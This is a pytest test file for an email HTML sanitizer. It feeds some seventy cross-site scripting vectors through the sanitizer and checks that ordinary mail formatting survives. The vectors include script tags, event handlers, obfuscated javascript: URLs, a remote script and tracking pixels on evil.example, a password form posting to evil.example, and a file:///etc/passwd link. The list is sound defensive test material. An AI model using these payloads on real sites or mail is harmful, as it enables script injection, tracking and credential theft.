"""What a mail's HTML may do in the browser of the person who reads it: nothing but be read."""

from __future__ import annotations

import pytest
from selectolax.lexbor import LexborHTMLParser

from ingest.mail.display import harmless

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' OnErRoR='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=https://evil.example/pixel.gif>",
    "<img srcset='https://evil.example/a 1x'>",
    "<img src=//evil.example/pixel.gif>",
    "<img src=/desk/logout>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img dynsrc=https://evil.example lowsrc=https://evil.example>",
    "<picture><source srcset=https://evil.example/a></picture>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><image href=https://evil.example/a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A;&#x61;vascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='/tickets/1/status'>x</a>",
    "<a href='#' onclick=alert(1)>x</a>",
    "<a href=https://ok.example onmouseover=alert(1) target=_top>x</a>",
    "<a href='https://ok.example' ping='https://evil.example'>x</a>",
    "<body onload=alert(1)>x</body>",
    "<body background=https://evil.example/a>x</body>",
    "<table background=https://evil.example/a><tr><td background=https://evil.example/b>x</td></tr></table>",
    "<div style='background:url(https://evil.example/a)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<style>@import 'https://evil.example/a.css';</style>x",
    "<style>*{position:fixed}</style>x",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=https://evil.example></frameset>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<applet code=x></applet>",
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<isindex action='javascript:alert(1)' type=submit>",
    "<video src=https://evil.example/a poster=https://evil.example/b></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<p id=form class=button name=cookie>x</p>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->x",
    "<!--><img src=x onerror=alert(1)>-->x",
    "<![CDATA[<script>alert(1)</script>]]>x",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
]  # fmt: skip
ALLOWED = {"alt", "href", "rel", "cite", "type", "border", "width", "title"}


@pytest.mark.parametrize("page", VECTORS)
def test_nothing_runs_loads_posts_or_covers(page: str) -> None:
    shown = LexborHTMLParser(f"<div id=desk>{harmless(page)}</div>")
    desk = shown.css_first("#desk")
    assert desk is not None
    for node in desk.css("*"):
        if node is desk or node.attributes.get("id") == "desk":
            continue
        assert node.tag in {"a", "p", "div", "table", "tbody", "tr", "td", "blockquote", "img"}, page
        assert set(node.attributes) <= ALLOWED, (page, node.attributes)
        assert (node.attributes.get("href") or "https://").startswith("https://"), page
    assert len(shown.css("#desk")) == 1


def test_what_people_write_stays() -> None:
    page = (
        '<html><head><title>t</title></head><body><p dir="rtl">Hi <b>there</b></p><ul><li>one</li></ul>'
        '<a href="https://shop.example/x?a=1&amp;b=2">link</a><a href="mailto:a@b.example">mail</a>'
        '<img src="cid:logo@mail" alt="Logo"><blockquote type="cite">before</blockquote></body></html>'
    )
    rel = 'rel="noopener noreferrer nofollow"'
    assert harmless(page) == (
        '<p dir="rtl">Hi <b>there</b></p><ul><li>one</li></ul>'
        f'<a href="https://shop.example/x?a=1&amp;b=2" {rel}>link</a><a href="mailto:a@b.example" {rel}>mail</a>'
        '<img src="cid:logo@mail" alt="Logo"><blockquote type="cite">before</blockquote>'
    )


@pytest.mark.parametrize("page", ["", "<", "<div>" * 50_000, "\0<b\0>x", "<a href=" * 10_000])
def test_any_page_is_cleaned_and_cleaning_again_changes_nothing(page: str) -> None:
    once = harmless(page)
    assert harmless(once) == once
